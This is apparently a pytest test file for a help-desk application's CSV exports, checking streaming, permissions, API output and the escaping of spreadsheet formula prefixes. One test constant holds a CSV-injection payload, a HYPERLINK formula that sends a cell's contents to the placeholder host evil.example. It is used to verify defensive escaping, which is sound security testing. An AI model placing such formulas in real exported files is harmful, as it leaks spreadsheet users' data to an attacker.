"""CSV exports of every report and of the desk's ticket lists (the view and filters on screen), on the
pages and through the API: streamed, the same numbers as the page, and no cell a spreadsheet would run
as a formula."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from supportdesk.reports.csv_export import FORMULA_STARTS, safe_cell
from supportdesk.tickets import service
from supportdesk.tickets.lifecycle import Priority, Status
from tests.conftest import login
from tests.factories import make_admin, make_category, make_requester, make_team, make_technician, make_ticket
from tests.test_query_counts import counting

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def rows_of(response) -> list[list[str]]:  # type: ignore[no-untyped-def]
    text = response.get_data(as_text=True).lstrip("\ufeff")
    return list(csv.reader(io.StringIO(text)))


@given(st.text(max_size=30))
def test_no_cell_starts_like_a_formula(text: str) -> None:
    cell = safe_cell(text)
    assert not str(cell).startswith(FORMULA_STARTS)
    if not text.startswith(FORMULA_STARTS):
        assert cell == text
    else:
        assert cell == "'" + text  # kept, shown as typed


def test_numbers_stay_numbers() -> None:
    assert (safe_cell(3), safe_cell(-1.5), safe_cell(None)) == (3, -1.5, "")


@pytest.fixture
def desk(session):  # type: ignore[no-untyped-def]
    lead = make_technician(session, full_name="Lena Lead", email="lena@example.com")
    network = make_team(session, "Network", members=[lead])
    payroll = make_team(session, "Payroll")
    vpn = make_category(session, "-VPN", team=network)
    admin = make_admin(session, email="ada@example.com")
    raiser = make_requester(session, full_name="@Raiser", email="erin@example.com")
    for i, subject in enumerate((HOSTILE, "+1 printer", "Plain subject")):
        make_ticket(
            session,
            admin,
            subject,
            requester_id=raiser.id,
            team_id=network.id,
            category_id=vpn.id,
            priority=Priority.HIGH if i else Priority.LOW,
            assignee_id=lead.id,
        )
    secret = make_ticket(session, admin, "\tPayroll secret", team_id=payroll.id)
    service.transition(session, admin, secret.number, Status.RESOLVED)
    session.commit()
    return {"lead": lead, "network": network, "payroll": payroll, "admin": admin}


def test_each_report_downloads_as_the_page_shows_it(client, desk) -> None:  # type: ignore[no-untyped-def]
    login(client, "lena@example.com")
    response = client.get("/reports/export/categories.csv?by=week")
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    assert 'attachment; filename="supportdesk-categories-' in response.headers["Content-Disposition"]
    assert response.is_streamed
    assert rows_of(response) == [["Category", "Tickets raised"], ["'-VPN", "3"]]
    volume = rows_of(client.get("/reports/export/volume.csv?by=week"))
    assert volume[0] == ["Period", "Created", "Resolved"]
    assert sum(int(row[1]) for row in volume[1:]) == 3  # the lead's team only
    for name in ("backlog-status", "backlog-team", "times", "technicians"):
        assert client.get(f"/reports/export/{name}.csv").status_code == 200
    assert client.get("/reports/export/salaries.csv").status_code == 404
    assert client.get(f"/reports/export/volume.csv?team={desk['payroll'].id}").status_code == 403
    assert client.get("/reports/export/volume.csv?from=never").status_code == 422


def test_the_ticket_list_downloads_with_the_desk_view_and_filters(client, desk) -> None:  # type: ignore[no-untyped-def]
    login(client, "lena@example.com")
    response = client.get("/reports/tickets.csv?view=open&priority=high")
    assert response.status_code == 200 and response.is_streamed
    rows = rows_of(response)
    assert rows[0][:4] == ["Number", "Subject", "Status", "Priority"]
    subjects = {row[1] for row in rows[1:]}
    assert subjects == {"'+1 printer", "Plain subject"}
    everything = rows_of(client.get("/reports/tickets.csv?view=open"))
    cells = [cell for row in everything for cell in row]
    assert "'" + HOSTILE in cells and "'@Raiser" in cells
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)


def test_a_long_ticket_list_streams_in_batches(client, session, desk) -> None:  # type: ignore[no-untyped-def]
    """Statements grow with the batches, not the rows: memory holds one batch at a time."""
    from tests.reports.rows import RawTicket, write_desk

    write_desk(
        session,
        [RawTicket(None, None, Priority.NORMAL, None, _t(i), None) for i in range(1500)],
        1,
        1,
        1,
        first_number=5001,
    )
    login(client, "ada@example.com")
    with counting(client.application) as statements:
        rows = rows_of(client.get("/reports/tickets.csv?view=open"))
    assert len(rows) == 1 + 1503  # the 1,500 and the three open ones of the fixture
    assert len({row[0] for row in rows[1:]}) == 1503
    assert len(statements) <= 3 + 2  # the user, then two batches of 1,000 (and room for the names)


def _t(i: int):  # type: ignore[no-untyped-def]
    from datetime import timedelta

    from tests.reports.rows import NOW

    return NOW - timedelta(minutes=i)


def test_exports_are_for_the_desk(client, session, desk) -> None:  # type: ignore[no-untyped-def]
    assert client.get("/reports/tickets.csv").status_code == 302
    login(client, "erin@example.com")
    assert client.get("/reports/tickets.csv").status_code == 404
    assert client.get("/reports/export/volume.csv").status_code == 404


def test_the_api_gives_the_figures_as_json_and_csv(api_as, desk) -> None:  # type: ignore[no-untyped-def]
    api = api_as(desk["lead"])
    found = api.get("/api/v1/reports?by=week").get_json()
    names = [report["name"] for report in found["reports"]]
    assert names == [
        "volume",
        "backlog-status",
        "backlog-team",
        "times",
        "service-levels-team",
        "service-levels-category",
        "service-levels-technician",
        "technicians",
        "categories",
        "satisfaction-team",
        "satisfaction-category",
        "satisfaction-technician",
    ]
    categories = next(report for report in found["reports"] if report["name"] == "categories")
    assert categories["columns"] == ["Category", "Tickets raised"] and categories["rows"] == [["-VPN", 3]]
    assert found["time_zone"] == "UTC" and found["filters"]["by"] == "week"
    exported = api.get("/api/v1/reports/export?report=categories")
    assert exported.mimetype == "text/csv" and rows_of(exported)[1] == ["'-VPN", "3"]
    tickets = api.get("/api/v1/tickets/export?status=resolved")
    assert tickets.mimetype == "text/csv" and len(rows_of(tickets)) == 2  # technicians see the whole desk
    assert api.get(f"/api/v1/reports?team={desk['payroll'].id}").status_code == 403
    assert api.get("/api/v1/reports?by=fortnight").status_code == 422
    assert api.get("/api/v1/reports/export?report=nope").status_code == 422


def test_the_api_refuses_requesters(api_as, session, desk) -> None:  # type: ignore[no-untyped-def]
    api = api_as(make_requester(session))
    assert api.get("/api/v1/reports").status_code == 403
    assert api.get("/api/v1/reports/export?report=volume").status_code == 403
    assert api.get("/api/v1/tickets/export").status_code == 403


def test_the_queue_offers_its_list_as_csv(client, desk) -> None:  # type: ignore[no-untyped-def]
    login(client, "lena@example.com")
    page = client.get("/desk/?view=open&priority=high").get_data(as_text=True)
    assert (
        "/reports/tickets.csv?" in page
        and "view=open" in page.split("/reports/tickets.csv?")[1].split('"')[0]
    )


def test_the_api_export_names_a_report(api_as, desk) -> None:  # type: ignore[no-untyped-def]
    response = api_as(desk["lead"]).get("/api/v1/reports/export")
    assert response.status_code == 422 and "report" in response.get_json()["detail"]


def test_far_dates_are_refused_not_a_crash(api_as, desk) -> None:  # type: ignore[no-untyped-def]
    api = api_as(desk["lead"])
    assert api.get("/api/v1/reports?to=0369-11-22").status_code == 422
    assert api.get("/api/v1/reports?from=2038-06-01&to=2038-06-30").status_code == 200
